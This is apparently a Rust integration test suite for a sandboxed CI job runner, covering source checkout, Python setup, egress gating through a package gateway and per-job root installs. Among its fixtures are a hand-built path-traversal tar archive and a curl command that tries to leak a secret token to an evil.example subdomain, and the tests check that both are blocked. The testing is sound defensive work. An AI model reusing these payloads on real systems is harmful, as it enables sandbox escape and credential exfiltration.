//! The built-in actions and the exit, in real sandboxes.
#![allow(clippy::unwrap_used, clippy::panic)]

mod floor;

use std::io::Write;
use std::time::{Duration, Instant};

use caisson_model::id::Digest;
use caisson_model::job::JobSpec;
use caisson_model::outcome::{Outcome, Verdict};
use caisson_model::policy::Preset;
use caisson_model::step::StepSpec;
use caisson_sandbox::launcher::Launcher;
use floor::{Floor, called, job, run, uses, when};
use sha2::{Digest as _, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

cases![
    the_source_is_unpacked_inside,
    a_hostile_archive_meets_the_sandbox,
    python_is_found_and_pip_just_works,
    versions_are_honoured_and_lacks_listed,
    packages_come_through_the_exit_and_nothing_else,
    what_root_installs_stays_for_the_job,
];

fn main() {
    floor::main(CASES);
}

fn with_source(floor: &Floor, mut spec: JobSpec, archive: Vec<u8>) -> JobSpec {
    let digest = Digest(Sha256::digest(&archive).into());
    floor.controller.record().blobs.insert(digest, archive);
    spec.source = Some(digest);
    spec
}

fn archive(files: &[(&str, &str, u32)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, content, mode) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(*mode);
        // Written by hand, since the library refuses the names that a hostile archive has.
        header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        header.set_cksum();
        builder.append(&header, content.as_bytes()).unwrap();
    }
    builder.into_inner().unwrap()
}

async fn the_source_is_unpacked_inside(launcher: Launcher) {
    let floor = Floor::open(&launcher);
    let large = "x".repeat(3 << 20);
    let files = archive(&[("manage.py", "print('managed')", 0o644), ("bin/run", "#!/bin/sh\necho ran", 0o755), ("large", &large, 0o644)]);
    let spec = job(vec![
        run("echo left > stray; ls"),
        called("co", uses("actions/checkout", &[("fetch-depth", "0")])),
        run("python3 manage.py; ./bin/run; ls; stat -c %U manage.py; wc -c < large; echo ${{ steps.co.outputs.commit }}"),
        uses("actions/checkout", &[("path", "sub/dir")]),
        run("cat sub/dir/manage.py"),
        uses("actions/checkout", &[("path", "../x")]),
    ]);
    let (hold, completion) = floor.run(with_source(&floor, spec, files)).await;
    let log = floor.controller.log(hold, 2);
    assert_eq!(completion.outcome, Outcome::Failure, "{log} {}", floor.controller.log(hold, 1));
    assert_eq!(log, "managed\nran\nbin\nlarge\nmanage.py\nrunner\n3145728\nabc\n");
    assert!(floor.controller.log(hold, 4).contains("managed"));
    assert!(floor.controller.log(hold, 5).contains("leaves the workspace"));
    let (hold, _) = floor.run(job(vec![uses("actions/checkout", &[])])).await;
    assert!(floor.controller.log(hold, 0).contains("submitted without a source tree"));
    floor.close().await;
}

async fn a_hostile_archive_meets_the_sandbox(launcher: Launcher) {
    let floor = Floor::open(&launcher);
    let outside = floor.state.join("attempts/escaped");
    let climb = format!("../../../../../../../../../../{}", outside.display());
    assert!(climb.len() < 100, "{climb}");
    let hostile = archive(&[(&climb, "escaped", 0o644), ("ok", "ok", 0o644)]);
    let spec = job(vec![uses("actions/checkout", &[]), when("always()", run("ls -la / /home/runner | head -50"))]);
    let (_, completion) = floor.run(with_source(&floor, spec, hostile)).await;
    assert_eq!(completion.outcome, Outcome::Failure);
    assert!(!outside.exists());
    // Bytes that are not what was announced do not become a source tree either.
    let spec = with_source(&floor, job(vec![uses("actions/checkout", &[])]), archive(&[("a", "a", 0o644)]));
    floor.controller.record().blobs.insert(spec.source.unwrap(), archive(&[("a", "b", 0o644)]));
    let (hold, completion) = floor.run(spec).await;
    assert_eq!(completion.outcome, Outcome::Faulted, "{}", floor.controller.log(hold, 0));
    floor.close().await;
}

async fn python_is_found_and_pip_just_works(launcher: Launcher) {
    let floor = Floor::open(&launcher);
    let spec = job(vec![
        called("py", uses("actions/setup-python", &[("python-version", "3.x")])),
        run(
            "which python pip; python -c 'import sys; print(sys.prefix, sys.version_info[0])'; pip --version; echo $pythonLocation; echo v=${{ steps.py.outputs.python-version }}; ${{ steps.py.outputs.python-path }} -c 'print(1)'",
        ),
        run(
            "mkdir -p p/src/thing && echo 'ANSWER = 42' > p/src/thing/__init__.py && python - <<'E'\nimport zipfile\nw = zipfile.ZipFile('thing-1.0-py3-none-any.whl', 'w')\nw.writestr('thing/__init__.py', 'ANSWER = 42')\nw.writestr('thing-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: thing\\nVersion: 1.0\\n')\nw.writestr('thing-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\nw.writestr('thing-1.0.dist-info/RECORD', '')\nw.close()\nE\npip install ./thing-1.0-py3-none-any.whl && python -c 'import thing; print(thing.ANSWER)'; pip uninstall -y thing",
        ),
        uses("actions/setup-python", &[("python-version", "3.x")]),
    ]);
    let begun = Instant::now();
    let hold = floor.controller.offer(spec);
    let completion = floor.controller.completion(hold).await;
    let (setup, log) = (floor.controller.log(hold, 0), floor.controller.log(hold, 1));
    assert_eq!(completion.outcome, Outcome::Success, "{setup}\n{log}\n{}", floor.controller.log(hold, 2));
    assert!(log.contains("/home/runner/.pythons/") && log.contains("v=3.") && log.ends_with("1\n"), "{log}");
    assert!(floor.controller.log(hold, 2).contains("\n42\n"), "{}", floor.controller.log(hold, 2));
    let made = floor.controller.results(hold)[&0].usage.wall;
    assert!(made < Duration::from_secs(10), "{made:?} of {:?}", begun.elapsed());
    println_time("setup-python", made);
    floor.close().await;
}

fn println_time(what: &str, time: Duration) {
    let _ = writeln!(std::io::stdout(), "  {what}: {time:?}");
}

async fn versions_are_honoured_and_lacks_listed(launcher: Launcher) {
    let floor = Floor::open(&launcher);
    let file = |name: &str, content: &str| run(&format!("printf '%s' '{content}' > {name}"));
    let spec = job(vec![
        when("always()", uses("actions/setup-python", &[("python-version", "3.99")])),
        when("always()", uses("actions/setup-python", &[("python-version", "three")])),
        when("always()", uses("actions/setup-python", &[("python-version-file", "nope")])),
        when("always()", file("pyproject.toml", "[project]\nrequires-python = \">=3.8\"\n")),
        when("always()", uses("actions/setup-python", &[("python-version-file", "pyproject.toml")])),
        when("always()", file(".python-version", "2.7")),
        when("always()", uses("actions/setup-python", &[])),
        when("always()", run("rm .python-version")),
        when("always()", uses("actions/setup-python", &[("update-environment", "false")])),
    ]);
    let (hold, _) = floor.run(spec).await;
    let results = floor.controller.results(hold);
    for (step, expected) in [
        (0, "no installed Python is '3.99'; this machine has 3."),
        (1, "'three' is no version of Python"),
        (2, "the file nope, named by python-version-file, is not in the workspace"),
        (6, "no installed Python is '2.7'"),
    ] {
        assert!(floor.controller.log(hold, step).contains(expected), "{step}: {}", floor.controller.log(hold, step));
    }
    assert_eq!((results[&4].outcome, results[&8].outcome), (Outcome::Success, Outcome::Success), "{}", floor.controller.log(hold, 4));
    floor.close().await;
}

/// A package index with one package, on this host's loopback.
async fn index() -> std::net::SocketAddr {
    let wheel = {
        let python = "import zipfile,sys\nw=zipfile.ZipFile(sys.stdout.buffer,'w')\nw.writestr('parcel/__init__.py','')\nw.writestr('parcel-1.0.dist-info/METADATA','Metadata-Version: 2.1\\nName: parcel\\nVersion: 1.0\\n')\nw.writestr('parcel-1.0.dist-info/WHEEL','Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\nw.writestr('parcel-1.0.dist-info/RECORD','')\nw.close()\n";
        let output = std::process::Command::new("python3").args(["-c", python]).output().unwrap();
        assert!(output.status.success());
        output.stdout
    };
    let digest: String = Sha256::digest(&wheel).iter().map(|byte| format!("{byte:02x}")).collect();
    let page =
        format!("<html><body><a href=\"/files/parcel-1.0-py3-none-any.whl#sha256={digest}\">parcel-1.0-py3-none-any.whl</a></body></html>");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let (wheel, page) = (wheel.clone(), page.clone());
            tokio::spawn(async move {
                let mut request = Vec::new();
                let mut piece = [0; 4096];
                while !request.ends_with(b"\r\n\r\n") {
                    match stream.read(&mut piece).await {
                        Ok(read @ 1..) => request.extend_from_slice(&piece[..read]),
                        _ => return,
                    }
                }
                let request = String::from_utf8_lossy(&request).into_owned();
                let path = request.split_whitespace().nth(1).unwrap_or_default();
                let (status, kind, body) = match path {
                    "/simple/parcel/" => ("200 OK", "text/html", page.into_bytes()),
                    "/files/parcel-1.0-py3-none-any.whl" => ("200 OK", "application/octet-stream", wheel),
                    _ => ("404 Not Found", "text/plain", b"no".to_vec()),
                };
                let head =
                    format!("HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                let _ = stream.write_all(head.as_bytes()).await;
                let _ = stream.write_all(&body).await;
            });
        }
    });
    address
}

async fn packages_come_through_the_exit_and_nothing_else(launcher: Launcher) {
    let address = index().await;
    let other = index().await;
    let store = tempfile::tempdir().unwrap();
    let floor = Floor::with(&launcher, |host| {
        host.index = caisson_agent::index::PackageIndex { index_url: Some(format!("http://{address}/simple")), ..Default::default() };
        host.gateway = caisson_gateway::gateway::Gateway::new(caisson_gateway::settings::Settings {
            store: store.path().to_owned(),
            quota: 1 << 30,
            python: caisson_gateway::settings::Source::parse(&format!("http://{address}/simple")).into_iter().collect(),
            ..Default::default()
        });
    });
    let granted = |script: &str| {
        let mut step: StepSpec = when("always()", run(script));
        step.grant.egress.presets = vec![Preset::PythonPackages];
        step.grant.egress.reason = "test".into();
        step
    };
    let fetch = |address: std::net::SocketAddr| {
        format!(
            "python3 - <<'E'\nimport urllib.request\ntry:\n    print('got', urllib.request.urlopen('http://{address}/simple/parcel/', timeout=5).status)\nexcept Exception as error:\n    print('no:', error)\nE\n"
        )
    };
    let mut smuggler = granted("curl -s -m 5 http://$T.evil.example/ -o /dev/null; true");
    smuggler.env = floor::env(&[("T", "${{ secrets.TOKEN }}")]);
    smuggler.grant.secrets = vec!["TOKEN".into()];
    floor.controller.record().secrets.insert(caisson_model::id::StepIndex(6), vec![("TOKEN".into(), "HushHush77".into())]);
    let spec = job(vec![
        uses("actions/setup-python", &[]),
        granted("pip install parcel && python -c 'import parcel; print(\"imported\")'"),
        granted(&fetch(address)),
        granted(&fetch(other)),
        when("always()", run(&fetch(address))),
        when("always()", run("env | grep -i _proxy || echo none")),
        smuggler,
    ]);
    let (hold, completion) = floor.run(spec).await;
    let log = |step| floor.controller.log(hold, step);
    assert_eq!(completion.outcome, Outcome::Success, "{}{}", log(0), log(1));
    assert!(log(1).contains("imported"), "{}", log(1));
    // The control of the refusals: the same program reaches the index where it is granted.
    assert_eq!(log(2), "got 200\n");
    assert!(log(3).starts_with("no: ") && log(4).starts_with("no: "), "{}{}", log(3), log(4));
    // A step without a grant finds a proxy that refuses and writes down what was wanted, for HTTPS alone.
    assert!(log(5).contains("HTTPS_PROXY=") && !log(5).contains("HTTP_PROXY=http"), "{}", log(5));
    let results = floor.controller.results(hold);
    assert!(
        results[&1].egress.iter().any(|entry| entry.verdict == Verdict::Allowed && entry.port == address.port()),
        "{:?}",
        results[&1].egress
    );
    assert!(
        results[&3].egress.iter().any(|entry| entry.verdict == Verdict::Refused && entry.port == other.port()),
        "{:?}",
        results[&3].egress
    );
    assert!(results[&4].egress.iter().all(|entry| entry.verdict == Verdict::Refused), "{:?}", results[&4].egress);
    assert_eq!(results[&6].egress.iter().map(|entry| entry.host.as_str()).collect::<Vec<_>>(), ["***.evil.example"]);
    assert!(!format!("{:?}", floor.controller.record().reports).to_lowercase().contains("hushhush77"));
    floor.close().await;
}

async fn what_root_installs_stays_for_the_job(launcher: Launcher) {
    if launcher.mode() != caisson_sandbox::host::Mode::Root {
        let _ = writeln!(
            std::io::stdout(),
            "  skipped: without root outside, the host's root is nobody inside and its directories take no file"
        );
        return;
    }
    let floor = Floor::open(&launcher);
    let mut root = run(
        "id -u; printf '#!/bin/sh\\necho installed\\n' > /usr/local/bin/of-this-job; chmod 755 /usr/local/bin/of-this-job; stat -c %U /usr/bin/env",
    );
    root.grant.identity = caisson_model::policy::Identity::Root;
    let (hold, completion) = floor.run(job(vec![root, run("of-this-job; id -u; touch /usr/local/bin/x || echo refused")])).await;
    let log = |step| floor.controller.log(hold, step);
    assert_eq!(completion.outcome, Outcome::Success, "{}{} {:?}", log(0), log(1), completion.cause);
    assert_eq!(log(0), "0\nroot\n");
    assert!(log(1).starts_with("installed\n1000\n") && log(1).ends_with("refused\n"), "{}", log(1));
    assert!(!std::path::Path::new("/usr/local/bin/of-this-job").exists());
    let (hold, completion) = floor.run(job(vec![run("of-this-job")])).await;
    assert_eq!(completion.outcome, Outcome::Failure, "{}", floor.controller.log(hold, 0));
    floor.close().await;
}
